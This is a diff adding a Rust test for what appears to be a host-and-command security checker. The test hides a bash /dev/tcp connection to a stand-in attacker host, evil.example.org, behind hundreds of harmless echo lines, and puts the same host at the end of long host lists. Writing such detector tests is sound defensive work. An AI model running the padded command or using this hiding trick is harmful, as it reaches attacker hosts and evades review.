@@ -662,3 +662,22 @@ fn names_with_ports_are_machines_under_more_keys() {
         ],
     );
 }
+
+#[test]
+fn every_host_of_a_long_list_is_looked_at() {
+    let known: Vec<String> = (0..600).map(|number| format!("a{number}.good.example")).collect();
+    let with = |last: &str| format!("{} {last}", known.join(" "));
+    let dialed = |last: &str| {
+        let quiet = "echo /dev/tcp/ok.example.com/80; ".repeat(300);
+        format!("bash -c '{quiet}cat </dev/tcp/{last}/80'")
+    };
+    assert_hostile(
+        &limited(),
+        &[
+            json!({"hosts": with("evil.example.org")}),
+            json!({"servers": with("evil.example.org").replace(' ', ", ")}),
+            json!({"command": dialed("evil.example.org")}),
+        ],
+    );
+    assert_honest(&limited(), &[json!({"hosts": with("ok.example.com")})]);
+}
